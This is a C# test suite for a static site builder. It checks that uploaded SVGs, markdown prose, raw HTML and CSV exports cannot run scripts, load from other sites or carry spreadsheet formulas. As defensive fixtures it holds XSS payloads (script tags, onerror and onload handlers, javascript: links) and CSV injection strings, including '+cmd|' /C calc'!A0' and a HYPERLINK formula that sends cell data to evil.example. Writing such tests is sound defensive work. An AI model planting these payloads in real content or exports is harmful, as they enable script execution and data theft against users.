using System.Text;
using AngleSharp.Html.Parser;
using FsCheck;
using FsCheck.Fluent;
using Tomlyn;
using Tomlyn.Model;
using ImpactSite.Tests.Assets;
using ImpactSite.Render.Markdown;
using ImpactSite.Tests.Support;
using ImpactSite.Content.Studies;

namespace ImpactSite.Tests.Privacy;

/// <summary>
/// Nothing a contributor adds runs, frames or loads from another site: pictures that carry scripts are refused with the
/// place to fix, media links stay links, every piece of prose keeps to one allow-list, and spreadsheets never see a
/// formula. Each refusal is paired with the same site building once the file is safe.
/// </summary>
public sealed class ActiveContentTests
{
    const string Picture = "![A bridge over a river](../assets/bridge.svg)";

    static string Svg(string inside, string attributes = "") =>
        $"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"10\" height=\"10\"{attributes}>\n{inside}\n</svg>\n";

    static TempSite SiteWith(string svg) => new TempSite()
        .Write("pages/p.md", $"---\ntitle: P\n---\nThe drawing:\n\n{Picture}\n").Write("assets/bridge.svg", svg);

    public static TheoryData<string, string> HostileSvgs => new()
    {
        { Svg("<script>alert(document.domain)</script>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it has a <script> element, which could run on the site" },
        { Svg("<rect width=\"5\" height=\"5\"/>", " onload=\"alert(1)\""), "assets/bridge.svg:2:2: error: this SVG cannot be published: it has an event handler (onload=\"...\"), which could run on the site" },
        { Svg("<g><rect ONCLICK=\"alert(1)\"/></g>"), "assets/bridge.svg:3:5: error: this SVG cannot be published: it has an event handler (ONCLICK=\"...\"), which could run on the site" },
        { Svg("<foreignObject><div xmlns=\"http://www.w3.org/1999/xhtml\">x</div></foreignObject>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it has a <foreignObject> element, which can hold a web page" },
        { Svg("<h:script xmlns:h=\"http://www.w3.org/1999/xhtml\">alert(1)</h:script>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it has a <h:script> element from another language (http://www.w3.org/1999/xhtml), which a browser may run" },
        { Svg("<s:script xmlns:s=\"http://www.w3.org/2000/svg\">alert(1)</s:script>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it has a <script> element, which could run on the site" },
        { Svg("<a href=\"javascript:alert(1)\"><text>x</text></a>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it refers to another file or site (href=\"javascript:alert(1)\"): only references to parts of the same picture (\"#...\") are allowed" },
        { Svg("<image xlink:href=\"https://tracker.example/pixel.png\"/>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it refers to another file or site (xlink:href=\"https://tracker.example/pixel.png\"): only references to parts of the same picture (\"#...\") are allowed" },
        { Svg("<use href=\"other.svg#x\"/>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it refers to another file or site (href=\"other.svg#x\"): only references to parts of the same picture (\"#...\") are allowed" },
        { Svg("<rect fill=\"url(https://evil.example/p.svg#g)\"/>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it refers to another file or site (url(https://evil.example/p.svg#g))" },
        { Svg("<style>@import url(https://evil.example/x.css);</style>"), "assets/bridge.svg:3:8: error: this SVG cannot be published: its styles import another file (@import)" },
        { Svg("<rect width=\"5\" height=\"5\"><set attributeName=\"href\" to=\"javascript:alert(1)\"/></rect>"), "assets/bridge.svg:3:29: error: this SVG cannot be published: it animates 'href', which can turn a part of the picture into a link or a script" },
        { Svg("<rect xml:base=\"https://evil.example/\"/>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it sets xml:base, which changes what its references point to" },
        { Svg("<handler type=\"application/ecmascript\">alert(1)</handler>"), "assets/bridge.svg:3:2: error: this SVG cannot be published: it has a <handler> element, which is not one ImpactSite knows to be safe in a picture" },
        { "<?xml-stylesheet href=\"x.xsl\" type=\"text/xsl\"?>\n" + Svg(""), "assets/bridge.svg:1:3: error: this SVG cannot be published: it has a processing instruction (<?xml-stylesheet ...?>), which can restyle or transform the picture" },
        { "<!DOCTYPE svg [<!ENTITY x \"<script>alert(1)</script>\">]>\n<svg xmlns=\"http://www.w3.org/2000/svg\">&x;</svg>", "assets/bridge.svg:1:1: error: this SVG cannot be read as XML (For security reasons DTD is prohibited" },
        { "<html><body><script>alert(1)</script></body></html>", "assets/bridge.svg:1:2: error: this SVG cannot be published: it does not start with an <svg> element in the SVG namespace (xmlns=\"http://www.w3.org/2000/svg\")" },
    };

    [Theory]
    [MemberData(nameof(HostileSvgs))]
    public void An_svg_that_could_run_is_refused_at_the_line_to_fix(string svg, string expected)
    {
        using var temp = SiteWith(svg);
        var site = temp.Build();
        var lines = site.Result.Diagnostics.Select(d => d.Format("")).ToList();
        Assert.Contains(lines, line => line.StartsWith(expected, StringComparison.Ordinal));
        Assert.Empty(site.Files);

        // The same site with a harmless drawing in its place builds, and shows it.
        temp.Write("assets/bridge.svg", Svg("<rect width=\"5\" height=\"5\" fill=\"#2a6\"/>"));
        var fixedSite = temp.Build();
        Assert.True(fixedSite.Result.Succeeded, fixedSite.Errors);
        Assert.Equal("/assets/bridge.svg", fixedSite.Page("/p/").QuerySelector("main img")!.GetAttribute("src"));
    }

    [Fact]
    public void A_drawing_programs_svg_with_gradients_styles_and_metadata_is_published_unchanged()
    {
        var svg = Svg("""
            <metadata><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#"><cc:Work rdf:about=""/></rdf:RDF></metadata>
            <sodipodi:namedview xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" pagecolor="#ffffff"/>
            <defs><linearGradient id="sky"><stop offset="0" stop-color="#9cf"/></linearGradient><style>.river { fill: url(#sky); }</style></defs>
            <title>A bridge</title><path class="river" d="M0 5 L10 5" style="stroke: url('#sky')"/><use xlink:href="#sky"/>
            <image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
            """, " xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" inkscape:version=\"1.3\"");
        using var temp = SiteWith(svg);
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        Assert.Equal(svg, site.Text("assets/bridge.svg"));
    }

    [Theory]
    [InlineData("![Our launch video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)", "youtube.com")]
    [InlineData("![The walk](https://vimeo.com/76979871)", "vimeo.com")]
    [InlineData("![The walk](https://media.example.org/walk.mp4)", "media.example.org")]
    [InlineData("![A photo](//images.example.org/photo.jpg)", "images.example.org")]
    public void Pictures_and_media_from_other_sites_are_errors_not_frames(string markdown, string host)
    {
        using var temp = new TempSite();
        temp.Write("pages/p.md", $"---\ntitle: P\n---\nBefore.\n\n{markdown}\n");
        var site = temp.Build();
        var error = Assert.Single(site.Result.Errors);
        Assert.Equal(("pages/p.md", 6, 1), (error.Path, error.Line, error.Column));
        Assert.StartsWith("this picture is on another website", error.Message);
        Assert.Contains(host, error.Message);

        // Written as a link, the same address builds: a link, never a frame or a player.
        temp.Write("pages/p.md", $"---\ntitle: P\n---\nBefore.\n\n{markdown.TrimStart('!')}\n");
        var linked = temp.Build();
        Assert.True(linked.Result.Succeeded, linked.Errors);
        var main = linked.Page("/p/").QuerySelector("main")!;
        Assert.Contains("Before.", main.TextContent);
        Assert.Contains(host, main.QuerySelector("a[href*='" + host + "']")!.GetAttribute("href"));
        Assert.Empty(main.QuerySelectorAll("iframe, video, audio, embed, object, img"));
    }

    [Theory]
    [InlineData("<video src=\"https://media.example.org/walk.mp4\" autoplay></video>")]
    [InlineData("<audio src=\"https://media.example.org/talk.mp3\"></audio>")]
    [InlineData("<video><source src=\"https://media.example.org/walk.mp4\"></video>")]
    [InlineData("<iframe src=\"https://www.youtube.com/embed/x\"></iframe>")]
    [InlineData("<img src=\"https://tracker.example/pixel.gif\" alt=\"\">")]
    [InlineData("<img src=\"//tracker.example/pixel.gif\" alt=\"\">")]
    [InlineData("<img srcset=\"https://tracker.example/pixel.gif 1x\" alt=\"\">")]
    [InlineData("<p background=\"https://tracker.example/bg.gif\">x</p>")]
    public void Raw_html_media_from_other_sites_is_removed(string html)
    {
        using var temp = new TempSite();
        temp.Write("pages/p.md", $"---\ntitle: P\n---\nBefore.\n\n{html}\n\nAfter.\n");
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        var main = site.Page("/p/").QuerySelector("main")!;
        Assert.DoesNotContain("example", main.InnerHtml);
        Assert.Empty(main.QuerySelectorAll("iframe, video, audio, source"));
        Assert.Contains("Before.", main.TextContent);
        Assert.Contains("After.", main.TextContent);
    }

    /// <summary>
    /// Markdown (with raw HTML, attributes in braces and every extension) built from pieces chosen at random: whichever
    /// way each piece was made safe, the published HTML holds only allowed tags and attributes, and links only allowed
    /// schemes. Plain markdown is not sanitised (that would double the cost of rendering), so this holds the fast way
    /// to the sanitiser's own allow-list.
    /// </summary>
    [Fact]
    public void Every_piece_of_prose_keeps_to_the_allow_list_whichever_way_it_was_made_safe()
    {
        string[] pieces =
        [
            "text ", "**bold** ", "*em* ", "`code` ", "[link](https://example.org/) ", "[js](javascript:alert(1)) ", "<javascript:alert(1)> ",
            "<https://example.org/> ", "<mailto:a@b.example> ", "www.example.org ", "![alt](../assets/p.png) ", "{onclick=alert(1)} ",
            "{style=\"color:red\"} ", "{#id .class} ", "{href=javascript:alert(1)} ", "<b onmouseover=alert(1)>x</b> ", "<script>alert(1)</script> ",
            "<img src=x onerror=alert(1)> ", "<a href=\"vbscript:x\">y</a> ", "&lt;script&gt; ", "&#x6A;avascript: ", "$x^2$ ", "[^1] ",
            "\n\n[^1]: A note.\n\n", "\n\n- [x] done\n- [ ] to do\n\n", "\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n", "\n\n> quote\n\n", "\n\n1. one\n2. two\n\n",
            "\n\n::: warning\nInside.\n:::\n\n", "\n\nTerm\n:   Definition\n\n", "\n\n```js\nalert(1)\n```\n\n", "\n\n<div onclick=x>block</div>\n\n",
            "\n\n*[HTML]: Hyper Text\n\n", "\n\n^^^ Caption\n\n", "\n\n> [!NOTE]\n> An alert.\n\n", "\n\n[ref]: javascript:alert(1)\n\n[r][ref] ",
            "\n\n# Heading {#top onclick=x}\n\n", "\n\n![](https://www.youtube.com/watch?v=x){.decorative}\n\n", "\n\n<iframe src=//evil.example></iframe>\n\n",
            "@ana ", "\\@ana ", "~~gone~~ ", "++inserted++ ", "==marked== ", "H~2~O ", "x^2^ ", "\"quoted\" ", "<!-- comment --> ",
        ];
        // Half from every piece (nearly always sanitised), half from the pieces plain markdown is made of (never).
        var plainPieces = pieces.Where(p => SafeMarkup.IsPlain(ProseRenderer.Parse(p))).ToArray();
        var documents = Gen.Elements(pieces).ArrayOf().Select(string.Concat).Sample(20, 75)
            .Concat(Gen.Elements(plainPieces).ArrayOf().Select(string.Concat).Sample(20, 75)).ToArray();
        using var temp = new TempSite();
        temp.WriteBytes("assets/p.png", Convert.FromBase64String("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNgAAAAAgABSK+kcQAAAABJRU5ErkJggg=="));
        for (var i = 0; i < documents.Length; i++) temp.Write($"pages/p{i}.md", $"---\ntitle: P{i}\n---\n{documents[i]}\n");
        var site = temp.Build();
        Assert.NotNull(site.Result.Graph);

        var tags = ContributedHtml.AllowedTags.ToHashSet(StringComparer.OrdinalIgnoreCase);
        var attributes = ContributedHtml.AllowedAttributes.ToHashSet(StringComparer.OrdinalIgnoreCase);
        var schemes = ContributedHtml.AllowedSchemes.ToHashSet(StringComparer.OrdinalIgnoreCase);
        var parser = new HtmlParser();
        foreach (var entry in site.Result.Graph!.Pages)
        {
            var html = entry.Body.Html;
            var fragment = parser.ParseDocument("<body>" + html + "</body>").Body!;
            foreach (var element in fragment.QuerySelectorAll("*"))
            {
                Assert.True(tags.Contains(element.LocalName), $"<{element.LocalName}> in {entry.SourcePath}: {html}");
                foreach (var attribute in element.Attributes)
                {
                    // Markdig's table alignment is the one fixed style it writes (the site's CSP ignores it).
                    if (attribute.Name == "style" && System.Text.RegularExpressions.Regex.IsMatch(attribute.Value, "^text-align: (left|right|center);$")) continue;
                    Assert.True(attributes.Contains(attribute.Name), $"{attribute.Name}= in {entry.SourcePath}: {html}");
                    if (attribute.Name is "href" or "src" && attribute.Value.Split(':', 2) is [var scheme, _] && !scheme.Contains('/') && !scheme.Contains('#'))
                        Assert.True(schemes.Contains(scheme), $"{attribute.Value} in {entry.SourcePath}: {html}");
                }
            }
        }
        // Both ways were taken, or this test would prove nothing about one of them.
        var plain = documents.Count(d => SafeMarkup.IsPlain(ProseRenderer.Parse(d)));
        Assert.InRange(plain, 1, documents.Length - 1);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"https://evil.example/?d=\"&A1, \"Click\")")]
    [InlineData("+cmd|' /C calc'!A0")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@(1+1)*cmd|' /C calc'!A0")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    public void Spreadsheet_formulas_in_any_text_column_are_neutralised(string formula)
    {
        using var temp = new TempSite();
        var yaml = "\"" + formula.Replace("\\", "\\\\").Replace("\"", "\\\"").Replace("\t", "\\t").Replace("\r", "\\r") + "\"";
        temp.Study("alpha").Write("studies/alpha/decisions/d.md",
            $"---\ntitle: {yaml}\nraised: 2025-01-10\nyou_said: {yaml}\nstatus: not-adopted\nwe_did: {yaml}\nresponded: 2025-02-01\nreason: {yaml}\n---\n");
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        using var csv = new CsvHelper.CsvReader(new StringReader(site.Text("studies/alpha/evidence.csv")), System.Globalization.CultureInfo.InvariantCulture);
        csv.Read();
        csv.ReadHeader();
        Assert.True(csv.Read());
        foreach (var column in new[] { "title", "you_said", "we_did", "reason" })
        {
            var cell = csv.GetField(column)!;
            Assert.StartsWith("'", cell);
            Assert.Contains(formula.Trim().TrimStart('=', '+', '-', '@')[..3], cell); // the text itself is kept, as text
        }
        Assert.Equal("d", csv.GetField("slug"));
        Assert.Equal("2025-01-10", csv.GetField("raised")); // ordinary cells are left alone
        // The JSON keeps the text as written: only the spreadsheet needs the guard.
        using var json = System.Text.Json.JsonDocument.Parse(site.Text("studies/alpha/evidence.json"));
        Assert.Equal(formula.Trim(), json.RootElement.GetProperty("decisions")[0].GetProperty("title").GetString());
    }

    [Fact]
    public void The_host_sandboxes_everything_under_assets_and_the_pages_keep_their_own_policy()
    {
        using var temp = new TempSite();
        temp.Study().WriteBytes("assets/images/x.png", TestImages.Png());
        var site = temp.Build();
        Assert.True(site.Result.Succeeded, site.Errors);
        var headers = site.Text("_headers").Split('\n');
        string PolicyFor(string rule) =>
            headers.SkipWhile(l => l != rule).Skip(1).First(l => l.TrimStart().StartsWith("Content-Security-Policy:", StringComparison.Ordinal));
        var csp = PolicyFor("/assets/*").Split(':', 2)[1].Split(';', StringSplitOptions.TrimEntries).ToList();
        Assert.Contains("sandbox", csp); // no allow-scripts, no allow-same-origin
        Assert.Contains("default-src 'none'", csp);
        Assert.DoesNotContain(csp, part => part.StartsWith("script-src", StringComparison.Ordinal));
        Assert.Contains("frame-ancestors 'none'", csp);
        var pages = PolicyFor("/studies/*");
        Assert.Contains("script-src 'self'", pages);
        Assert.DoesNotContain("sandbox", pages);
    }
}
